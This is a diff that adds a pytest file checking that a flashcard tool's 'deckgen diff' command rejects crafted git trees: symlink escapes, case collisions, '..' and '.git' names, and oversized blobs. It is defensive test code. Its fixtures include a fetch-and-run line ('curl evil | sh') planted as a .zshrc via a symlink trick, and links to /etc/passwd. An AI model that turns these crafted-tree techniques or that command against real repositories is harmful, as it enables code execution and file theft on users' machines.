@@ -1,0 +1,196 @@
+"""gitio reads a revision's cards from git's object store into memory: crafted trees (built here with
+`git hash-object --literally`, which git's porcelain refuses to make) cannot make `deckgen diff` write or read
+anything outside, and each is refused at its place."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from conftest import DECK_YAML, SECOND_TOPIC_YAML, TOPIC_YAML, run, write_deck
+
+Git = Callable[..., str]
+
+
+@pytest.fixture
+def repo(git_repo: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    root = tmp_path / "repo"
+    write_deck(root)
+    git_repo("add", "-A")
+    git_repo("commit", "-qm", "base")
+    monkeypatch.chdir(root)
+    scratch = tmp_path / "tmp"
+    scratch.mkdir()
+    monkeypatch.setenv("TMPDIR", str(scratch))
+    monkeypatch.setattr(tempfile, "tempdir", None)
+    return root
+
+
+class Trees:
+    """Writes raw git objects, including ones git's own commands would refuse."""
+
+    def __init__(self, root: Path):
+        self.root = root
+
+    def _git(self, *args: str, data: bytes | None = None) -> str:
+        env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
+               "GIT_COMMITTER_EMAIL": "t@example.com"}
+        return subprocess.run(["git", *args], cwd=self.root, input=data, capture_output=True, check=True, env=env).stdout.decode().strip()
+
+    def blob(self, data: bytes | str) -> str:
+        return self._git("hash-object", "-w", "--stdin", data=data.encode() if isinstance(data, str) else data)
+
+    def tree(self, *entries: tuple[str, str | bytes, str]) -> str:
+        """(mode, name, object id) in the given order: duplicates, '..', links and folders of one name all allowed."""
+        raw = b"".join(mode.encode() + b" " + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(oid)
+                       for mode, name, oid in entries)
+        return self._git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", data=raw)
+
+    def deck(self, *extra: tuple[str, str | bytes, str]) -> str:
+        """A valid cards tree plus ``extra`` entries."""
+        return self.tree(("100644", "basics.yaml", self.blob(TOPIC_YAML)), ("100644", "deck.yaml", self.blob(DECK_YAML)),
+                         ("100644", "safety.yaml", self.blob(SECOND_TOPIC_YAML)), *extra)
+
+    def commit(self, cards_tree: str, branch: str = "evil") -> str:
+        root = self.tree(("40000", "cards", cards_tree))
+        commit = self._git("commit-tree", root, "-p", "HEAD", "-m", "crafted")
+        self._git("update-ref", f"refs/heads/{branch}", commit)
+        return branch
+
+
+def diff_fails(*args: str) -> list[str]:
+    result = run("diff", *args)
+    assert result.exit_code == 1, result.output
+    assert result.stdout == ""
+    assert "Traceback" not in result.stderr
+    return result.stderr.splitlines()
+
+
+def assert_nothing_written(repo: Path, *outside: Path) -> None:
+    for folder in outside:
+        assert not folder.exists() or list(folder.iterdir()) == [], folder
+    assert list((repo.parent / "tmp").iterdir()) == []  # no temporary copy of the tree, ever
+    assert subprocess.run(["git", "status", "--porcelain"], cwd=repo, capture_output=True, text=True).stdout == ""
+
+
+def test_a_link_and_a_folder_of_one_name(repo: Path) -> None:
+    """The attack on the former materialize(): write media/.zshrc through a link media -> outside."""
+    trees = Trees(repo)
+    outside = repo.parent / "home"
+    outside.mkdir()
+    branch = trees.commit(trees.deck(("120000", "media", trees.blob(str(outside))),
+                                     ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("curl evil | sh\n"))))))
+    assert diff_fails("main", branch) == [
+        "evil:cards/media: error: is both a file and a folder in the git tree (a crafted commit); rename one",
+        "deckgen: 1 error(s); nothing was written",
+    ]
+    assert_nothing_written(repo, outside)
+
+
+def test_names_equal_but_for_case(repo: Path) -> None:
+    """On a case-insensitive disk `Media -> ~` plus `media/.zshrc` needs no duplicate name."""
+    trees = Trees(repo)
+    outside = repo.parent / "home"
+    outside.mkdir()
+    branch = trees.commit(trees.deck(("120000", "Media", trees.blob(str(outside))),
+                                     ("40000", "media", trees.tree(("100644", ".zshrc", trees.blob("x\n"))))))
+    assert diff_fails("main", branch) == [
+        "evil:cards/media/.zshrc: error: differs only in case from 'Media' (they collide on case-insensitive disks); rename one",
+        "deckgen: 1 error(s); nothing was written",
+    ]
+    assert_nothing_written(repo, outside)
+
+
+def test_a_name_twice(repo: Path) -> None:
+    trees = Trees(repo)
+    branch = trees.commit(trees.deck(("100644", "safety.yaml", trees.blob(SECOND_TOPIC_YAML.replace("fever", "rash")))))
+    assert diff_fails("main", branch) == [
+        "evil:cards/safety.yaml: error: appears twice in the git tree (a crafted commit); deckgen diff refuses it",
+        "deckgen: 1 error(s); nothing was written",
+    ]
+
+
+@pytest.mark.parametrize(("name", "shown", "what"), [
+    ("a\\b.yaml", "a\\b.yaml", "a backslash"), ("..", "../x.yaml", "'..'"), (".git", ".git/x.yaml", "'.git'"),
+    (".GIT", ".GIT/x.yaml", "'.GIT'"),
+])
+def test_names_no_checkout_could_hold(repo: Path, name: str, shown: str, what: str) -> None:
+    trees = Trees(repo)
+    topic = trees.blob(SECOND_TOPIC_YAML)
+    entry = ("100644", name, topic) if name.endswith(".yaml") else ("40000", name, trees.tree(("100644", "x.yaml", topic)))
+    branch = trees.commit(trees.deck(entry))
+    assert diff_fails("main", branch) == [
+        f"evil:cards/{shown}: error: has {what} in its name (a crafted commit); rename it",
+        "deckgen: 1 error(s); nothing was written",
+    ]
+
+
+def test_topic_link_leaving_the_cards_folder(repo: Path) -> None:
+    trees = Trees(repo)
+    (repo.parent / "secret.yaml").write_text("topic: s\ntitle: s\ncards: []\n", encoding="utf-8")
+    branch = trees.commit(trees.deck(("120000", "leak.yaml", trees.blob("../../secret.yaml")),
+                                     ("120000", "abs.yaml", trees.blob("/etc/passwd"))))
+    assert diff_fails("main", branch) == [
+        "evil:cards/abs.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
+        "evil:cards/leak.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
+        "deckgen: 2 error(s); nothing was written",
+    ]
+
+
+def test_topic_link_inside_the_cards_folder_reads_like_the_loader(repo: Path) -> None:
+    """The loader follows a link that stays in the cards folder; so does the in-memory reader (never on disk)."""
+    trees = Trees(repo)
+    extra = "topic: extra\ntitle: Extra\ncards:\n  - id: extra-card\n    front: Q\n    back: A\n"
+    branch = trees.commit(trees.deck(("40000", "shared", trees.tree(("100644", "extra.txt", trees.blob(extra)))),
+                                     ("120000", "zz.yaml", trees.blob("shared/extra.txt"))))
+    result = run("diff", "main", branch)
+    assert result.exit_code == 0, result.output
+    assert "#### Added `extra-card` (question/answer)" in result.stdout
+
+
+def test_lock_that_is_a_link(repo: Path) -> None:
+    trees = Trees(repo)
+    branch = trees.commit(trees.deck(("120000", "deckgen.lock", trees.blob("/dev/zero"))))
+    assert diff_fails("main", branch) == [
+        "evil:cards/deckgen.lock: error: is a symbolic link; the lock file must be a regular file in the cards folder; restore "
+        "the lock file from git (e.g. git checkout main -- <lock file>) and run 'deckgen build'",
+        "deckgen: 1 error(s); nothing was written",
+    ]
+
+
+def test_blob_sizes_are_checked_before_reading(repo: Path) -> None:
+    trees = Trees(repo)
+    big = trees.blob(b"# " + b"x" * (16 * 1024 * 1024) + b"\n")
+    huge_link = trees.blob(b"a" * 100_000)  # a "link" whose target would be 100 KB: never read
+    branch = trees.commit(trees.deck(("100644", "big.yaml", big), ("120000", "link.yaml", huge_link)))
+    assert diff_fails("main", branch) == [
+        "evil:cards/big.yaml: error: file is 16,777,219 bytes, over the 16,777,216-byte limit; split it into several topic files",
+        "evil:cards/link.yaml: error: is a symbolic link to a file outside the cards folder; copy the file in instead",
+        "deckgen: 2 error(s); nothing was written",
+    ]
+
+
+def test_a_folder_named_like_a_topic_file_and_a_submodule(repo: Path) -> None:
+    trees = Trees(repo)
+    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True).stdout.strip()
+    branch = trees.commit(trees.deck(("40000", "dir.yaml", trees.tree(("100644", "x", trees.blob("x")))),
+                                     ("160000", "sub.yaml", commit)))
+    assert diff_fails("main", branch) == [
+        "evil:cards/dir.yaml: error: is a folder, not a YAML file; rename it or move it out of the cards folder",
+        "evil:cards/sub.yaml: error: is a submodule, not a YAML file; remove it from the cards folder",
+        "deckgen: 2 error(s); nothing was written",
+    ]
+
+
+def test_a_normal_diff_writes_nothing(repo: Path, git_repo: Git) -> None:
+    (repo / "cards" / "safety.yaml").write_text(SECOND_TOPIC_YAML.replace("{{c1::fever}}", "{{c1::rash}}"), encoding="utf-8")
+    git_repo("commit", "-qam", "edit")
+    result = run("diff", "main~0", "HEAD~1")
+    assert result.exit_code == 0
+    assert "1 changed" in result.stdout
+    assert list((repo.parent / "tmp").iterdir()) == []
